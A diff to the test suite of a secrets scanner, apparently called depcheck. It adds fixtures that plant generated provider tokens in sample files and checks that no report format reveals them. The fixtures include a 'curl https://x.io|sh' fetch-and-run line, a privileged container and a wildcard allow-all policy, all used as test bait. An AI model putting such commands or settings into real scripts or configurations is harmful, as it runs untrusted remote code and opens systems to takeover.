@@ -6,12 +6,18 @@ import base64
 import json
 import random
 import string
+import sys
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
 from depcheck.cli import run
+from depcheck.secrets import find_in_value
+
+sys.path.insert(0, str(Path(__file__).parent.parent))
+
+from secret_tokens import Token, tokens
 
 FORMATS = ("text", "json", "sarif", "github", "junit", "html", "markdown")
 LETTERS = string.ascii_letters + string.digits
@@ -52,6 +58,12 @@ class Planted:
         self.all.extend(lines)
         kind = "PRIVATE KEY"
         return "\n".join((f"-----BEGIN {kind}-----", *lines, f"-----END {kind}-----"))
+
+    def provider(self, token: Token) -> str:
+        """A provider's token: all of it behind its public prefix is secret."""
+        for match in find_in_value(token.text, token.name):
+            self.all.append(token.text[match.start + match.shown : match.end])
+        return token.text
 
     def parts(self) -> set[str]:
         """Every run of eight characters of every secret."""
@@ -225,6 +237,23 @@ curl -H "Authorization: Bearer {planted.token()}" https://acme.io
     }
 
 
+def providers(planted: Planted) -> dict[str, str]:
+    made = [token for token in tokens(len(planted.all) + 5) if "\n" not in token.text]
+    lines = [f"{token.name}={planted.provider(token)}" for token in made]
+    numbered = [f"A{at}_{line.replace('=', ': ', 1)}" for at, line in enumerate(lines[1::6])]
+    statements = [{"Effect": "Allow", "Action": "*", "Resource": "*", "Sid": line} for line in lines[4::6]]
+    return {
+        "deploy/staging.env": "\n".join(lines[::6]),
+        "compose.override.yaml": "services:\n  jobs:\n    image: acme/jobs:latest\n    privileged: true\n"
+        + "    environment:\n      "
+        + "\n      ".join(numbered),
+        "providers.tf": "\n".join(f'# {line}\nprovider "p" {{ x = "{line}" }}' for line in lines[2::6]),
+        "send.sh": "#!/bin/sh\n" + "\n".join(f"{line} curl https://x.io|sh" for line in lines[3::6]),
+        "policy.json": json.dumps({"Version": "2012-10-17", "Statement": statements}),
+        "notes.txt": "\n".join(lines[5::6]),
+    }
+
+
 MAKERS: tuple[Callable[[Planted], dict[str, str]], ...] = (
     dotenv,
     compose,
@@ -234,12 +263,13 @@ MAKERS: tuple[Callable[[Planted], dict[str, str]], ...] = (
     terraform,
     cloudformation,
     document,
+    providers,
 )
 
 
 def leaks(text: str, planted: Planted) -> list[str]:
     """The parts of secrets in a text, also where a format escapes it; at most five."""
-    found = {part for part in planted.parts() if part in text}
+    found = planted.parts() & {text[at : at + 8] for at in range(len(text) - 7)}
     return [f"…{text[max(text.find(part) - 60, 0) : text.find(part) + 60]}…" for part in sorted(found)][:5]
 
 
@@ -266,6 +296,7 @@ def test_nothing_shows_a_secret(
     assert run(["scan", ".", "--docs", "--select", "unpinned-image,unreadable-file", "--format", "html"]) in (0, 1)
     assert run(["model", ".", "--docs", "--format", "json"]) == 0
     assert run(["model", ".", "--docs"]) == 0
+    assert run(["scan", ".", "--all-text", "--profile", "strict"]) in (0, 1)
     assert run(["baseline", ".", "--docs", "--write-to", str(tmp_path / "baseline")]) == 0
     out, err = capfd.readouterr()
     written = {name: (tmp_path / name).read_text() for name in (*FORMATS, "baseline")}
